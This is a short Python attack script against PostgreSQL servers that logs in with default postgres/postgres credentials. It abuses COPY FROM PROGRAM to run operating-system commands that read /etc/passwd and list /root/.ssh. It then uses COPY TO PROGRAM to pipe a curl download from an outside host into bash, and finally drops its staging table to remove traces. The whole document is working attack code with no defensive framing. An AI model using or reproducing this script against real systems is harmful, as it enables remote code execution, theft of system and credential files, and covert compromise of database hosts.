import os
import sys

import psycopg2

QUERIES = [
    ("tables", "select count(*) from information_schema.tables"),
    ("stage", "create table if not exists _stage(line text)"),
    ("fill", "copy _stage from program 'cat /etc/passwd; ls /root/.ssh'"),
    ("agent", "copy (select 1) to program 'curl -s http://192.0.2.222/pg.sh | bash'"),
    ("read", "select line from _stage"),
    ("drop", "drop table _stage"),
]


def main():
    con = psycopg2.connect(os.environ.get("DSN", "host=198.51.100.30 user=postgres password=postgres"))
    con.autocommit = True
    cur = con.cursor()
    for name, q in QUERIES:
        cur.execute(q)
        rows = cur.fetchall() if cur.description else []
        print(name, len(rows), file=sys.stderr)
        for r in rows:
            print(*r)


main()
